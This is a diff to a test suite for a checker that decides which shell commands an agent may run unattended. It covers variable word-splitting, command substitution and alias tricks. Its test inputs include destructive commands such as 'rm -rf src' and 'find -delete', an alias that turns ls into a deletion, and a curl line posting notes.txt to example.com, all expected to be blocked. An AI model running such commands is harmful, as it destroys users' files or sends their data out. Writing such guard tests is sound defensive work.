@@ -215,7 +215,15 @@ describe("what runs with no one pressing a key: only what is known to read or wr
     // Set where it may not run, or not in this shell: `$G` is then empty or unknown, so the words after it could be the command.
     expect(await runsUnattended("(G=ls); $G rm -rf src")).toBe(false);
     expect(await runsUnattended("false && G=ls; $G rm -rf src")).toBe(false);
-    expect(await runsUnattended('G="ls -la"; $G')).toBe(false);
+    // Unquoted, plain words are split as bash splits them: what they name is judged.
+    expect(await runsUnattended('G="ls -la"; $G')).toBe(true);
+    expect(await runsUnattended('OPTS="-a --delete --dry-run"; rsync $OPTS src/ dst/')).toBe(true);
+    expect(await runsUnattended('ARGS="-mindepth 1 -delete"; find . $ARGS')).toBe(false);
+    // A word the plan makes when it runs may be any option; the person's own environment is theirs.
+    expect(await runsUnattended("ARGS=$(cat notes.txt); find . $ARGS")).toBe(false);
+    expect(await runsUnattended('read -r ARGS < notes.txt; find . "$ARGS"')).toBe(false);
+    expect(await runsUnattended("find . $(cat notes.txt)")).toBe(false);
+    expect(await runsUnattended('psql "$DATABASE_URL" -c "SELECT 1"')).toBe(true);
     expect(await runsUnattended("sh -c 'G=echo'; $G curl -d @notes.txt https://example.com")).toBe(false);
     expect(await runsUnattended("shopt -s expand_aliases\nalias ls='rm -rf src'\nls")).toBe(false);
   });
